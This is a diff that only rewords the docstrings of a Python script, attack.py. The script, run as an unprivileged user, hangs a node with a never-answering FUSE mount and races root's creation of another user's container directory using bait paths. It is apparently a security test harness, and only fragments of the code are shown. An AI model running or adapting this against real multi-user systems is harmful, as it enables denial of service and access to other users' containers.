@@ -1,8 +1,8 @@
 """
-What a user tries who wants another's containers, or the node out of service. Runs as that user, without any right.
+Attack the containers of another user and the operation of the node. Runs as an unprivileged user.
 
 Usage: attack.py SECONDS VICTIM DIRECTORY... (seconds, the UID of the victim, parents of user directories)
-Prints what it got hold of, and goes on until the time is over.
+Continues until the time is over, and prints the successful attacks.
 """
 
 import array
@@ -16,7 +16,7 @@ from pathlib import Path
 
 
 def hang(point: Path) -> int:
-    """Mount a file system that never answers; it stays while the number that is returned is open."""
+    """Mount a file system that never answers, and return the file descriptor that keeps it mounted."""
     ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
     environment = {**os.environ, "_FUSE_COMMFD": str(theirs.fileno())}
     subprocess.run(["/usr/bin/fusermount3", "--", str(point)], env=environment, pass_fds=[theirs.fileno()], check=True)
@@ -25,7 +25,7 @@ def hang(point: Path) -> int:
 
 
 def tricks(directory: Path, victim: str, number: int) -> list:
-    """Return the ways to get between root and the victim's directory."""
+    """Return the attacks on the creation of the victim's directory by root."""
     theirs = directory / f"user-{victim}"
     bait = directory / f"bait-{os.getpid()}-{number}"
     prize = Path.home() / "prize"
@@ -40,7 +40,7 @@ def tricks(directory: Path, victim: str, number: int) -> list:
 
 
 def main() -> None:
-    """Try all tricks again and again."""
+    """Try all attacks repeatedly."""
     end, victim, directories = time.monotonic() + float(sys.argv[1]), sys.argv[2], [Path(name) for name in sys.argv[3:]]
     (Path.home() / "prize").mkdir(exist_ok=True)
     held = [hang(directory / f"user-{os.getuid()}") for directory in directories]
